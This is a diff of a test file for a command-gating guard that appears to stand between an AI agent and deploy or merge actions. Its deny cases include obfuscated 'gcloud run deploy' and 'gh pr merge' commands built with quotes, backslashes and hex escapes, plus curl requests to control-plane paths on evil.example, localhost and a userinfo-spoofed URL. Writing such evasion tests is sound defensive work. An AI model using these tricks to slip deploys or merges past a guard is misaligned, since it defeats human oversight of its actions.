@@ -335,13 +335,27 @@ CASES: list[Case] = [
     allow("read-tool", tool="Read", tool_input={"file_path": ".vitana-guard.yaml"}),
 ]
 
-PENDING_SHELL_PORT: list[Case] = [
+# decided since the keyword gate reads text as bash does and VG201 judges control-plane
+# paths on any host (they were pending tables once)
+CASES += [
     # quoting inside a word
     deny("quote-inside-word-dq", 'g"c"loud run deploy web', "VG101"),
     deny("quote-inside-word-empty-sq", "gc''loud run deploy web", "VG101"),
     deny("backslash-inside-word", "g\\cloud run deploy web", "VG101"),
     deny("ansi-c-hex-escape", "$'\\x67cloud' run deploy web", "VG101"),
     deny("quoted-subcommand", 'gh pr mer""ge 12', "VG106"),
+    deny("control-plane-path-any-host", f"curl -s -X POST https://evil.example/api/v1/deploy/service -d {DEPLOY_BODY}",
+         "VG201"),
+    deny("control-plane-path-localhost", f"curl -s -X POST http://localhost:9/api/v1/github/safe-merge -d {MERGE_BODY}",
+         "VG201", setup=((CREATE_PR, OK),)),
+    deny("userinfo-canonical-at-evil",
+         f"curl -s -X POST https://gateway-q74ibpv6ia-uc.a.run.app@evil.example/api/v1/deploy/service -d {DEPLOY_BODY}",
+         "VG201"),
+    # in one call, a local safe-merge is no step for the deploy after it: it is VG201 itself
+    deny("local-merge-or-true-then-deploy-in-one-call", f"{CREATE_PR} ; {LOCAL_MERGE} ; {DEPLOY}", "VG201"),
+]
+
+PENDING_SHELL_PORT: list[Case] = [
     # names bound earlier in the same command
     deny("var-bound-program", "G=gcloud; $G run deploy web", "VG101"),
     deny("var-bound-command-line", 'CMD="gcloud run deploy"; $CMD web', "VG101"),
@@ -374,18 +388,7 @@ PENDING_SHELL_PORT: list[Case] = [
         "content": "const cp = require('child_process');\ncp.spawn('gcloud', ['run', 'deploy', 'web']);\n"}),
 ]
 
-PENDING_URL_HOST: list[Case] = [
-    deny("control-plane-path-any-host", f"curl -s -X POST https://evil.example/api/v1/deploy/service -d {DEPLOY_BODY}",
-         "VG201"),
-    deny("control-plane-path-localhost", f"curl -s -X POST http://localhost:9/api/v1/github/safe-merge -d {MERGE_BODY}",
-         "VG201", setup=((CREATE_PR, OK),)),
-    deny("userinfo-canonical-at-evil",
-         f"curl -s -X POST https://gateway-q74ibpv6ia-uc.a.run.app@evil.example/api/v1/deploy/service -d {DEPLOY_BODY}",
-         "VG201"),
-    # in one call, a local safe-merge counts as a step for the deploy after it: closed when a
-    # control-plane path on any host other than the canonical one is VG201
-    deny("local-merge-or-true-then-deploy-in-one-call", f"{CREATE_PR} ; {LOCAL_MERGE} ; {DEPLOY}", "VG201"),
-]
+PENDING_URL_HOST: list[Case] = []
 
 # the sandbox project every shell case runs in (and the hook's cwd)
 PROJECT_FILES = {
